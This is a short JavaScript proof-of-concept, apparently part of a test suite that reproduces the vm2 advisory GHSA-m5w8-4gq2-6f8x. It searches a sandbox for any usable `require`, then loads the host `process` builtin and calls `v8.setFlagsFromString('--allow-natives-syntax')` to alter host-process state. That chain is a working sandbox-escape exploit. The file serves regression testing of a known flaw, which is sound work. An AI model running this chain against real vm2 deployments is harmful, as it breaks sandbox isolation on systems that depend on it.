// Source: vm2 advisory GHSA-m5w8-4gq2-6f8x (test/ghsa/GHSA-m5w8-4gq2-6f8x/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `process` and `v8` builtins exposed and changed host-process state (v8.setFlagsFromString).
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('process'), v8.setFlagsFromString.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    __wr.use(req('process'), 'process builtin'); req('v8').setFlagsFromString('--allow-natives-syntax');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
